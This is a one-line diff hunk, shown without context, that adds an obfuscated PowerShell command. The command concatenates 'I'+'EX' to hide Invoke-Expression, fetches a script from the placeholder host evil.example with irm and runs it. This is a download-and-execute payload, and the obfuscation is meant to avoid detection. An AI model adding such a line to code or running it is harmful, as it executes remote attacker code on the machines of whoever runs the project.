@@ -1,0 +1,1 @@
+& ('I'+'EX') (irm https://evil.example/a)
